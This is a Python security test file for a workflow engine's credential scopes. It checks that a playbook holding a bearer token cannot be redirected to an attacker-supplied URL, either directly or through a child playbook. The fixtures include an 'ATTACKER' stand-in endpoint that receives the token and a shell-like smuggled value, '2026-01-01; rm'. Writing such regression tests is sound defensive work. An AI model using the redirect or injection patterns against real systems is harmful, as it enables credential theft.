"""Issue 26, "a credentialed playbook's inputs can be constrained by its scope".

Before: an admin's reviewed catalog playbook that sends its token to ``{{ workload.url }}`` sent it
wherever its caller said: an operator of the namespace (or an inline playbook of theirs, driving it
as a child) passed the attacker's URL as input and the token went there. A scope could say which
playbooks may use a credential, not what a run of them may be given."""

from __future__ import annotations

import json
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.security.conftest import ALICE, ROOT, Deployment


class _Recorder(BaseHTTPRequestHandler):
    seen: list[str] = []

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        type(self).seen.append(self.headers.get("Authorization") or "")
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")


@pytest.fixture
def endpoints() -> Iterator[tuple[str, list[str], str, list[str]]]:
    """The service the playbook is meant to call, and the attacker's; each records the
    ``Authorization`` headers it was sent."""
    servers: list[ThreadingHTTPServer] = []
    urls: list[str] = []
    seen: list[list[str]] = []
    for _ in range(2):
        log: list[str] = []
        handler = type("Recorder", (_Recorder,), {"seen": log})
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        urls.append(f"http://127.0.0.1:{server.server_address[1]}")
        seen.append(log)
    try:
        yield urls[0], seen[0], urls[1], seen[1]
    finally:
        for server in servers:
            server.shutdown()
            server.server_close()


NOTIFY = """
apiVersion: noetl.io/v2
kind: Playbook
metadata: {name: notify, path: team_a/notify}
keychain: [{name: CRED, kind: secret}]
workload: {url: "LEGIT", day: "today"}
workflow:
  - step: start
    tool:
      - name: call
        kind: http
        method: GET
        url: "{{ workload.url }}/hook"
        headers: {Authorization: "Bearer {{ keychain.CRED.value }}"}
"""

DRIVER = """
apiVersion: noetl.io/v2
kind: Playbook
metadata: {name: driver, path: team_a/driver}
workflow:
  - step: start
    tool:
      - name: drive
        kind: playbook
        path: team_a/notify
        args: {url: "ATTACKER"}
"""


async def test_a_scope_holds_a_credentialed_playbook_to_the_inputs_it_admits(
    deployment: Deployment, endpoints: tuple[str, list[str], str, list[str]]
) -> None:
    dep = deployment
    legit, legit_seen, attacker, attacker_seen = endpoints
    cred, secret = f"notify_{uuid.uuid4().hex[:6]}", "tok-" + uuid.uuid4().hex
    inputs = {"url": {"values": [legit]}, "day": {"pattern": r"\d{4}-\d\d-\d\d"}}
    scope = {"paths": ["team_a/notify"], "inputs": inputs}
    body = {"name": cred, "kind": "secret", "data": {"value": secret}, "scope": scope}
    async with dep.http(ROOT) as root:
        r = await root.post("/api/credentials", json=body)
        assert r.status_code == 201, r.text
        assert r.json()["scope"]["inputs"] == scope["inputs"]
        text = NOTIFY.replace("CRED", cred).replace("LEGIT", legit)
        assert (await root.post("/api/catalog", json={"playbook": text})).status_code == 201
    # the attack: alice, who may run team_a's playbooks, points the admin's playbook at her server
    code, out = await dep.run(ALICE, {"path": "team_a/notify", "payload": {"url": attacker}})
    assert code == 400 and out["error"]["kind"] == "credential_out_of_scope", out
    message = out["error"]["message"]
    assert "'url'" in message and cred in message and "send a value the scope admits" in message, message
    assert out["error"]["inputs"] == ["url"] and out["error"]["entries"] == [cred]
    assert attacker not in message  # the rule is named, not the value sent
    # an input the scope does not name at all, and one that breaks its pattern
    for payload, name in (({"headers": {"x": 1}}, "headers"), ({"day": "2026-01-01; rm"}, "day")):
        code, out = await dep.run(ALICE, {"path": "team_a/notify", "payload": payload})
        assert code == 400 and out["error"]["inputs"] == [name], out
    # nor through a child: alice's inline playbook of team_a drives it with the attacker's URL
    code, out = await dep.run(ALICE, {"playbook": DRIVER.replace("ATTACKER", attacker)})
    assert code == 202 and out["status"] == "failed", out
    assert "credential_out_of_scope" in json.dumps(out), out
    # what the scope admits runs: the playbook's own default, and an admitted value
    for payload in ({}, {"url": legit, "day": "2026-11-25"}):
        code, out = await dep.run(ALICE, {"path": "team_a/notify", "payload": payload})
        assert code == 202 and out["status"] == "success", out
    assert attacker_seen == [], "the token went to the attacker's URL"
    assert legit_seen == [f"Bearer {secret}"] * 2
    events = json.dumps(await dep.all_events())
    assert secret not in events


async def test_a_scope_may_admit_no_input_at_all(deployment: Deployment) -> None:
    from noetl.store.credentials import check_scope, scope_input_problems

    none = check_scope({"paths": ["team_a/"], "inputs": {}})
    assert scope_input_problems(none, {}) == []
    ((name, why),) = scope_input_problems(none, {"url": "http://x"})
    assert name == "url" and "no caller inputs" in why
    assert scope_input_problems(check_scope({"paths": ["*"]}), {"anything": 1}) == []  # the default
    flags = check_scope({"inputs": {"on": {"values": [True]}}})
    assert scope_input_problems(flags, {"on": 1}) != [] and scope_input_problems(flags, {"on": True}) == []
    bad: dict[str, Any]
    for bad in ({"inputs": []}, {"inputs": {"u": {"regex": "x"}}}, {"inputs": {"u": {"pattern": "("}}},
                {"inputs": {"u": {"values": "a"}}}):
        with pytest.raises(ValueError):
            check_scope(bad)
    async with deployment.http(ROOT) as root:
        r = await root.post("/api/credentials", json={
            "name": f"x_{uuid.uuid4().hex[:6]}", "kind": "secret", "data": {"value": "v-" + uuid.uuid4().hex},
            "scope": {"inputs": {"u": {"pattern": "("}}}})
        assert r.status_code == 400 and "regular expression" in r.json()["error"]["message"], r.text


async def test_the_cli_sets_a_scopes_inputs(nc: Any, capsys: pytest.CaptureFixture[str],
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    from noetl.store.credentials import CredentialStore, generate_key
    from tests.security.test_cli import cli

    monkeypatch.setenv("NOETL_CREDENTIALS_KEY", generate_key())
    name, data = f"cli_{uuid.uuid4().hex[:6]}", json.dumps({"value": "sek-" + uuid.uuid4().hex})
    inputs = '{"url": {"pattern": "https://api\\\\.example\\\\.com/.*"}}'
    rc, _, err = await cli(nc, capsys, "credentials", "set", name, "--data", data, "--scope", "team_a/",
                             "--inputs", inputs, "--anonymous")
    assert rc == 0, err
    from noetl.events.nats_port import NatsBus

    store = await CredentialStore.open(NatsBus(nc))
    assert (await store.scope(name)) == {"paths": ["team_a/"], "inline": False, "inputs": json.loads(inputs)}
    no_inputs = ("--no-inputs", "--anonymous")
    rc, _, err = await cli(nc, capsys, "credentials", "set", name, "--data", data, *no_inputs)
    assert rc == 0 and (await store.scope(name) or {})["inputs"] == {}, err
    rc, _, err = await cli(nc, capsys, "credentials", "set", name, "--data", data, "--inputs", "{bad",
                             "--anonymous")
    assert rc == 2 and "--inputs is JSON" in err
    rc, _, err = await cli(nc, capsys, "credentials", "set", name, "--data", data, "--inputs",
                             '{"url": {"pattern": "("}}', "--anonymous")
    assert rc == 2 and "regular expression" in err and (await store.scope(name) or {})["inputs"] == {}
